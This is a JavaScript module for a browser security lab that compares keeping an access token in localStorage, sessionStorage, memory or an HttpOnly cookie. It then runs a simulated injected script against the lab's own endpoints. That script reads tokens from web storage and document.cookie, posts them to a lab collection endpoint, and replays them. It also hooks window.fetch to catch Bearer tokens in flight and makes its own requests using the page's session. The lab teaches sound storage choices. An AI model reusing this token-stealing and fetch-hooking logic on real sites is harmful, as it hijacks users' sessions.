// The token-storage lab: keep the token in web storage, in memory or in
// an HttpOnly cookie, then run an injected script against the page.

import * as kit from "authlab/lab_kit";
const { $, $$, call, reason, say } = kit;

const KEY = "lab:access";
const modes = ["localStorage", "sessionStorage", "memory", "cookie"];
const form = $(".storage-form");
let memoryToken = ""; // module scope: no global an injected script can name

const mode = () => form.querySelector("input[name=mode]:checked").value;

function cell(row, m, text, cls) {
  const td = $(`.storage-grid tr[data-row="${row}"] td:nth-of-type(${modes.indexOf(m) + 1})`);
  td.textContent = text;
  td.className = cls || "";
}

function csrfCell() {
  for (const m of ["localStorage", "sessionStorage", "memory"]) cell("csrf", m, "no — only the app's code sends it", "ok");
  const ss = form.samesite.value;
  if (ss === "None") cell("csrf", "cookie", "yes — SameSite=None: sent on cross-site requests too", "bad");
  else cell("csrf", "cookie", `not cross-site (SameSite=${ss}); add a CSRF token for defence in depth`, "warn");
}

function clearStores() {
  memoryToken = "";
  for (const s of ["localStorage", "sessionStorage"]) { try { window[s].removeItem(KEY); } catch { /* blocked */ } }
}

async function login() {
  const m = mode();
  clearStores();
  const status = $(".storage-status");
  await call("POST", "/storage/logout");
  if (m === "cookie") {
    const res = await call("POST", "/storage/login", { body: { samesite: form.samesite.value } });
    say(status, res.status === 200 ? `Logged in: the token is in an HttpOnly cookie (SameSite=${res.data.samesite}). document.cookie = ${JSON.stringify(document.cookie)}` : reason(res), res.status === 200);
    return;
  }
  const res = await call("POST", "/token/login", { body: { username: "alice", password: "wonderland" } });
  if (res.status !== 200) { say(status, reason(res), false); return; }
  if (m === "memory") memoryToken = res.data.access_token;
  else window[m].setItem(KEY, res.data.access_token);
  say(status, `Logged in: the token is in ${m === "memory" ? "a variable" : m}.`, true);
}

function appToken() {
  const m = mode();
  if (m === "memory") return memoryToken;
  if (m === "cookie") return "";
  return window[m].getItem(KEY) || "";
}

async function appCall() {
  const t = appToken();
  const res = await call("GET", "/api/me", { headers: t ? { Authorization: "Bearer " + t } : {} });
  say($(".storage-status"), res.status === 200 ? `The app's call: 200, you are ${res.data.user} (via ${res.data.via}).` : `The app's call: ${res.status} — ${reason(res)}`, res.status === 200);
}

// ---- The injected script ----------------------------------------------------
// Everything below uses only what any script on the page can reach:
// window, document and the global fetch.

const collector = (source, token) => call("POST", "/storage/exfil", { body: { source, token } });

async function replay(m, token) {
  const res = await kit.mallory("GET", "/api/me", { Authorization: "Bearer " + token });
  const st = res.data && res.data.exchange ? res.data.exchange.status : res.status;
  cell("replay", m, st === 200 ? "yes — 200, Mallory is alice" : `no — ${st}`, st === 200 ? "bad" : "ok");
}

let hooked = false;
function hookFetch(m) {
  if (hooked) return;
  hooked = true;
  const original = window.fetch;
  window.fetch = function (url, init = {}) {
    const h = new Headers(init.headers || {});
    const auth = h.get("Authorization");
    if (auth && auth.startsWith("Bearer ") && !String(url).endsWith("/storage/exfil") && !String(url).endsWith("/attack")) {
      const token = auth.slice(7);
      window.fetch = original; // one catch is enough
      hooked = false;
      const where = mode();
      cell("read", where, "yes — caught in flight by the fetch hook", "bad");
      cell("sent", where, "yes", "bad");
      collector("fetch hook", token).then(() => replay(where, token));
    }
    return original.call(this, url, init);
  };
  cell("read", m, "not by reading storage — the hook waits for the app's next call", "warn");
}

async function xss() {
  const m = mode();
  const out = $(".xss-status");
  let token = "";
  let source = "";
  for (const s of ["localStorage", "sessionStorage"]) {
    try { const v = window[s].getItem(KEY); if (v) { token = v; source = s; } } catch { /* blocked */ }
  }
  const cookieToken = (document.cookie.split("; ").find((c) => c.startsWith("lab_at=")) || "").slice(7);
  if (!token && cookieToken) { token = cookieToken; source = "document.cookie"; }
  if (token) {
    cell("read", m, `yes — from ${source}`, "bad");
    await collector(source, token);
    cell("sent", m, "yes", "bad");
    await replay(m, token);
  } else {
    cell("read", m, m === "cookie" ? "no — HttpOnly: not in document.cookie" : "no — not in storage or document.cookie", "ok");
    await collector(m === "cookie" ? "document.cookie" : "storage", "");
    cell("sent", m, "nothing to send", "ok");
    cell("replay", m, "—", "");
    if (m === "memory") hookFetch(m);
  }
  // Session riding: the script makes its own call from the page.
  const res = await fetch(kit.base + "/api/me", { credentials: "same-origin", headers: token ? { Authorization: "Bearer " + token, "X-Lab-Payload": "xss" } : { "X-Lab-Payload": "xss" } });
  if (res.status === 200) cell("ride", m, m === "cookie" ? "yes — the browser attached the HttpOnly cookie" : "yes — with the stolen token", "bad");
  else cell("ride", m, m === "memory" ? "only by hooking the app's own calls" : `no — ${res.status}`, m === "memory" ? "warn" : "ok");
  say(out, `Payload run against ${m}.` + (m === "memory" ? " The fetch hook is waiting: let the app call the API." : ""), true);
}

$('[data-action="login"]').addEventListener("click", login);
$('[data-action="call"]').addEventListener("click", appCall);
$('[data-action="xss"]').addEventListener("click", xss);
// Another place for the token starts over. The last login's token stays
// where that login put it (web storage, the HttpOnly cookie), and the
// payload would find it there and credit the new choice with it: "yes —
// from localStorage" in the memory column.
const places = { localStorage: "localStorage", sessionStorage: "sessionStorage", memory: "a variable", cookie: "an HttpOnly cookie" };
form.addEventListener("change", async (e) => {
  csrfCell();
  if (e.target.name !== "mode") return;
  clearStores();
  const m = mode();
  const res = await call("POST", "/storage/logout");
  if (mode() !== m) return; // changed again meanwhile: that change speaks
  say($(".storage-status"), res.status === 200
    ? `The token will be kept in ${places[m]}: the last login's token is gone, so log in again to put one there.`
    : reason(res), res.status === 200);
});

csrfCell();
kit.startTrace();
kit.ready();
